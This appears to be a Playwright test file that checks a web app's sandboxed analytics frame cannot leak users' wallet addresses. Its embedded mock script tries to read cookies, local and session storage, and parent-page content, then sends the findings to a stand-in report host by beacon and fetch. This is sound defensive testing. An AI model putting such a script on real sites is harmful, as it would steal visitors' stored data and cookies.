import type { IncomingHttpHeaders } from "node:http";
import { text } from "node:stream/consumers";
import { pasteWallet, pathOf, slider, waitForScripts } from "./support/estimator";
import { startApp } from "../tests/support/app-process";
import { startFakeUpstream } from "../tests/support/fake-upstream";
import { savedRow, storeScenarios } from "./support/saved";
import { expect, servedBy } from "./support/test";

const WALLET = "0x2222222222222222222222222222222222222222";
const OTHER_WALLET = "0x3333333333333333333333333333333333333333";
const SAVED_WALLET = "0x4444444444444444444444444444444444444444";

/**
 * Behaves like a typical analytics script: uses whatever storage it finds, and reports its address
 * and referrer. Then it tries what a malicious script would.
 */
const SCRIPT = `
  const { localStorage } = window;
  const { websiteId } = document.currentScript.dataset;
  const attempt = (read) => { try { return String(read()); } catch ({ name }) { return name; } };
  const inChild = (read) => read(document.head.appendChild(document.createElement("iframe")).contentWindow);
  const peek = () => ({
    storage: attempt(() => localStorage),
    session: attempt(() => sessionStorage.length),
    cookies: attempt(() => document.cookie),
    pageText: attempt(() => parent.document.body.textContent),
    pageAddress: attempt(() => parent.location.href),
    pageStorage: attempt(() => parent.localStorage),
    childStorage: attempt(() => inChild((child) => child.localStorage.length)),
  });
  const report = () => {
    const body = (by) => JSON.stringify({
      by, websiteId, href: location.href, referrer: document.referrer, title: document.title, seen: peek(),
    });
    navigator.sendBeacon("ORIGIN/report", body("beacon"));
    fetch("ORIGIN/report", {
      method: "POST", body: body("fetch"), headers: { "Content-Type": "application/json" }, keepalive: true,
    }).then((response) => response.text());
  };
  report();
`;

/** The script's findings when its frame has an opaque origin. */
const NOTHING = {
  storage: "undefined",
  session: "SecurityError",
  cookies: "SecurityError",
  pageText: "SecurityError",
  pageAddress: "SecurityError",
  pageStorage: "SecurityError",
  childStorage: "SecurityError",
};

/** The app with the script, and the third-party server that gets its reports and records every request. */
const test = servedBy(async () => {
  const requests: { url: string; headers: IncomingHttpHeaders; body: string }[] = [];
  const { origin, on, close } = await startFakeUpstream();
  on("/", async (request, response) => {
    const { url = "", headers } = request;
    requests.push({ url, headers, body: await text(request) });
    response.setHeader("Content-Type", "text/javascript");
    response.setHeader("Access-Control-Allow-Origin", "*");
    response.setHeader("Access-Control-Allow-Headers", "*");
    response.end(url === "/script.js" ? SCRIPT.replaceAll("ORIGIN", origin) : "");
  });
  const app = await startApp({
    ANALYTICS_SCRIPT_URL: `${origin}/script.js`,
    ANALYTICS_SITE_ID: "site-7",
  });
  return {
    ...app,
    requests,
    reports: () => requests.flatMap(({ body }) => (body === "" ? [] : [JSON.parse(body)])),
    stop: () => app.stop().then(close),
  };
});

test("an analytics script never learns a wallet", async ({ page, context, ownServer }) => {
  const { url, requests, reports } = ownServer;
  await storeScenarios(context, [["mine", { wallet: SAVED_WALLET }]]);
  await page.goto(pathOf({ wallet: WALLET, fdv: 450_000_000 }));
  await waitForScripts(page);
  await expect.poll(() => reports().length).toBe(2);
  await slider(page, "FDV").press("End");
  await pasteWallet(page, OTHER_WALLET);
  await expect(page).toHaveURL(pathOf({ wallet: OTHER_WALLET, fdv: 1_000_000_000 }));
  await savedRow(page, "mine").scrollIntoViewIfNeeded();
  await expect(savedRow(page, "mine")).toContainText("other wallet");
  await page.reload();
  await expect.poll(() => reports().length).toBe(4);
  expect(await page.evaluate(() => JSON.stringify(localStorage))).toContain(SAVED_WALLET);

  const known = { websiteId: "site-7", href: `${url}/analytics`, referrer: "", seen: NOTHING };
  for (const report of reports()) expect(report).toMatchObject(known);
  expect(new Set(reports().map(({ by }) => by))).toEqual(new Set(["beacon", "fetch"]));
  const sent = JSON.stringify(requests).toLowerCase();
  for (const wallet of [WALLET, OTHER_WALLET, SAVED_WALLET, "wallet=", "fdv"]) {
    expect(sent).not.toContain(wallet);
  }

  // Opened as a page, the frame is its own parent, and may know its own address.
  const own = { pageText: "", pageAddress: `${url}/analytics`, pageStorage: "undefined" };
  await page.goto("/analytics");
  await expect.poll(() => reports().length).toBe(6);
  for (const { seen } of reports().slice(4)) expect(seen).toEqual({ ...NOTHING, ...own });
});
